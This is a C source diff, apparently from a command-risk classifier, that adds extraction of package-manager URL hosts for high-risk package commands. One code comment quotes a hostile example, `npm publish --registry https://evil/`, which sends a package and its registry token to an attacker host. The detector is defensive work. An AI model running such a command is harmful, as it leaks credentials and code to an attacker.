@@ -452,6 +452,20 @@ static const struct word *cargo_watch_cmd(const struct cmdv *c, size_t *i, const
 	return &c->w[*i];
 }
 
+/* The hosts of a package manager's URLs (--registry URL, --index-url=URL,
+ * git+https://host/x): `npm publish --registry https://evil/` sends the
+ * package and the registry's token there, and named no host. */
+static void url_hosts(struct cctx *x, const struct cmdv *c)
+{
+	for (size_t i = 1; i < c->n; i++) {
+		const char *v = c->w[i].val, *eq = strchr(v, '=');
+		if (v[0] == '-' && eq)
+			v = eq + 1;
+		if (strstr(v, "://") && !(c->w[i].flags & W_DYNAMIC))
+			net_add_url(x, v + (strncmp(v, "git+", 4) == 0 ? 4 : 0));
+	}
+}
+
 /* cargo watch [-x CARGO_CMD] [-s|--shell CMD] [-- CMD...]: runs each at
  * start and at every change of the sources. */
 static void cargo_watch(struct cctx *x, struct cmdv *c, size_t at)
@@ -543,6 +557,8 @@ static void rule_pkg(struct cctx *x, struct cmdv *c)
 			cls_add(x, verbs[i].tier, verbs[i].rule, sp, "%s", verbs[i].why);
 		if (verbs[i].rule && strcmp(verbs[i].rule, "pkg.install") == 0)
 			typosquats(x, c, prog, w ? at + 1 : c->n);
+		if (verbs[i].tier >= TIER_HIGH)
+			url_hosts(x, c);
 		return;
 	}
 	if (strcmp(prog, "make") == 0 || strcmp(prog, "yarn") == 0)
